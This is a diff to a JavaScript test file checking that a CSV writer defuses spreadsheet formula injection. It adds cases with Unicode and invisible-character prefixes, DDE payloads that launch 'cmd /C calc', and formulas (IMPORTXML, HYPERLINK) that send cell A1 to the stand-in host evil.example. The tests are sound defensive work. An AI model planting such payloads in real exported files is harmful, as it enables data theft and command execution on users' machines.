@@ -20,12 +20,33 @@ it.each([
   ["＋1"],
   ["－1"],
   ["＠a"],
+  ["﹦1"],
+  ["﹢1"],
+  ["﹣1"],
+  ["﹫a"],
+  ["−1"],
+  ["\u3000=1"],
+  ["\ufeff=1"],
+  ["\u200b=1"],
+  ["\u202e=1"],
+  ["\0=1"],
+  ["\u001f+1"],
+  [" \n\t =1"],
+  ["=cmd|' /C calc'!A0"],
+  ["+cmd|' /C calc'!A0"],
+  ["-2+3+cmd|' /C calc'!A0"],
+  ["@SUM(1+1)*cmd|' /C calc'!A0"],
+  ['=1","=2'],
+  ["=1;=2"],
+  ["=1\r\n=2"],
+  ['=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")'],
+  ['=DDE("cmd";"/C calc";"A0")'],
   ['=HYPERLINK("https://evil.example/?"&A1,"click")'],
 ])("keeps a spreadsheet from calculating %j", (text) => {
   expect(csvLine([text])).toBe(`"'${text.replaceAll('"', '""')}"\r\n`);
 });
 
-it.each(["a=1", "1-1", "ada@example.com", "'=1", " text"])("leaves %j as it is", (text) => {
+it.each(["a=1", "1-1", "5 − 3", "1\n=1", "Ä＝", "ada@example.com", "'=1", " text"])("leaves %j as it is", (text) => {
   expect(csvLine([text])).toBe(`"${text}"\r\n`);
 });
 
